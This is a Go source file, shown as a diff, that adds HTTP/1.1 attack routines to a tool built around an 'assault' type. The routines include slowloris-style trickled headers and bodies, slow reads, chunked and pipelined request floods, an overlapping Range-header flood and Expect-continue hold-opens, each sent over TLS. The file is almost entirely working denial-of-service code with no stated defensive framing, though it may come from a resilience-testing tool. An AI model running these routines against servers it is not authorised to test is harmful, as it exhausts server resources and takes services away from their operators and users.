@@ -1,0 +1,102 @@
+package main
+
+import (
+	"fmt"
+	"io"
+	"strings"
+	"time"
+)
+
+func (a *assault) head(method, path string, fields ...string) string {
+	return method + " " + path + " HTTP/1.1\r\nHost: " + a.to.name + "\r\n" + strings.Join(fields, "")
+}
+
+// trickleH1 sends a beginning and then one piece every 200 ms.
+func (a *assault) trickleH1(begin, drop string) error {
+	c, err := a.dialTLS("http/1.1")
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	if _, err := io.WriteString(c, begin); err != nil {
+		return err
+	}
+	a.units.Add(1)
+	for a.wait(200 * time.Millisecond) {
+		if _, err := io.WriteString(c, drop); err != nil {
+			return err
+		}
+		a.units.Add(1)
+	}
+	return nil
+}
+
+func h1SlowHead(a *assault) error { return a.trickleH1("GET /1k HTTP/1.1\r\nX-Slow: ", "a") }
+
+func h1SlowBody(a *assault) error {
+	return a.trickleH1(a.head("POST", small, "Content-Length: 1000000\r\n\r\n"), "a")
+}
+
+func h1SlowRead(a *assault) error {
+	c, err := a.dialTLS("http/1.1")
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	if _, err := io.WriteString(c, strings.Repeat(a.head("GET", large, "\r\n"), 10)); err != nil {
+		return err
+	}
+	return a.sip(c)
+}
+
+// floodH1 repeats one piece of text for as long as the server takes it; what comes back is read and dropped.
+func (a *assault) floodH1(begin, piece string) error {
+	c, err := a.dialTLS("http/1.1")
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	go func() {
+		_, _ = io.Copy(io.Discard, c)
+		c.Close()
+	}()
+	if _, err := io.WriteString(c, begin); err != nil {
+		return err
+	}
+	count := max(1, batch/len(piece))
+	pieces := []byte(strings.Repeat(piece, count))
+	for a.ctx.Err() == nil {
+		if _, err := c.Write(pieces); err != nil {
+			return err
+		}
+		a.units.Add(int64(count))
+	}
+	return nil
+}
+
+func h1TinyChunks(a *assault) error {
+	return a.floodH1(a.head("POST", small, "Transfer-Encoding: chunked\r\n\r\n"), "1\r\na\r\n")
+}
+
+func h1Pipeline(a *assault) error { return a.floodH1("", a.head("GET", small, "\r\n")) }
+
+func h1Ranges(a *assault) error {
+	ranges := make([]string, 400)
+	for i := range ranges {
+		ranges[i] = fmt.Sprintf("%d-", i)
+	}
+	return a.floodH1("", a.head("GET", "/files/1k.txt", "Range: bytes=", strings.Join(ranges, ","), "\r\n\r\n"))
+}
+
+func h1Expect(a *assault) error {
+	c, err := a.dialTLS("http/1.1")
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	if _, err := io.WriteString(c, a.head("POST", small, "Content-Length: 1000\r\nExpect: 100-continue\r\n\r\n")); err != nil {
+		return err
+	}
+	a.units.Add(1)
+	return a.sip(c)
+}
